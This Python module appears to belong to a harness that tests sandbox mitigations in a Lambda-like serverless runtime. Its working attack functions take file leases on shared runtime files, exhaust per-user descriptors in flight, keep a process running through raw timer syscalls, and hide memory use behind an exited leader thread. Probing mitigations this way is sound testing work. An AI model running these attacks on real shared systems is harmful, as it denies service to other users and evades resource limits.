"""Attempts that go round a mitigation: by what all of a user's processes share, or where what is looked at is empty."""

from __future__ import annotations

import array
import ctypes
import fcntl
import os
import signal
import socket
import sys
import threading
import time

from attack import Facts, Loot, attack, libc, numbers

MB = 1 << 20
_HELD: list[object] = []


@attack(17)
def leases(facts: Facts) -> list[str]:
    """Whoever opens a file that another has a lease on waits for up to 45 s: every function opens the runtime."""
    got = Loot()
    task = os.environ["LAMBDA_TASK_ROOT"]
    for path in (f"{task}/attack.py", f"{os.environ['LAMBDA_RUNTIME_DIR']}/boot.py", "/etc/passwd", sys.executable):
        for name, order, kind in (("read", 1024, fcntl.F_RDLCK), ("write", 1024, fcntl.F_WRLCK)):
            got.attempt(f"{name} lease on {path}", lambda path=path, order=order, kind=kind: _lease(path, order, kind))
    return got


def _lease(path: str, order: int, kind: int) -> str:
    with open(path, "rb") as file:
        fcntl.fcntl(file, order, kind)
        fcntl.fcntl(file, order, fcntl.F_UNLCK)
    return "had"


@attack(17, bites="")
def descriptors_in_flight(facts: Facts) -> list[str]:
    """Descriptors that nobody has taken from their socket are counted by user, and the next to send one is refused."""
    one = array.array("i", [os.open("/dev/null", os.O_RDONLY)])
    sent = 0
    try:
        while sent < 5000:
            count = 200 if sent < 1000 else 1
            ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, one * count)])
            _HELD.append(theirs)
            ours.close()
            sent += count
    except OSError:
        pass
    return [str(sent)]


@attack(24, bites="")
def stay_awake(facts: Facts) -> list[str]:
    """Continued by timers whenever it is stopped; what it has used of the processor is told by the next call."""
    if not _HELD:
        signal.signal(signal.SIGCONT, lambda *_: None)
        event = (ctypes.c_int * 16)(0, 0, signal.SIGCONT, 0)  # struct sigevent: SIGEV_SIGNAL
        timers = [ctypes.c_int() for _ in range(100)]
        for timer in timers:
            libc("syscall", numbers(222, 107), ctypes.c_long(1), event, ctypes.byref(timer))
        _HELD.append(timers)
        threading.Thread(target=_wind_up, args=(timers,), daemon=True).start()
        time.sleep(0.1)
    return [str(time.process_time())]


def _wind_up(timers: list[ctypes.c_int]) -> None:
    """A stop takes the signals that wait away, and not those of timers that ring later."""
    while True:
        for index, timer in enumerate(timers, 1):
            soon = (ctypes.c_long * 4)(0, 0, 0, index * 3_000_000)
            libc("syscall", numbers(223, 110), ctypes.c_long(timer.value), ctypes.c_long(0), soon, None)


@attack(14, bites="")
def eat_memory_without_a_leader(facts: Facts) -> list[str]:
    """The kernel tells nothing of the memory of a process whose first thread has ended."""
    size = facts["times"] * int(os.environ["AWS_LAMBDA_FUNCTION_MEMORY_SIZE"])
    reader, writer = os.pipe()
    if os.fork() == 0:

        def eat() -> None:
            held = []
            for _ in range(size):
                held.append(os.urandom(MB))
                time.sleep(0.001)
            os.write(writer, b"%d" % len(held))
            time.sleep(60)

        threading.Thread(target=eat).start()
        libc("syscall", numbers(60, 93), ctypes.c_long(0))  # exit: of this thread alone
    os.close(writer)
    eaten = os.read(reader, 16).decode()
    return [f"{eaten} MB"] if eaten else []
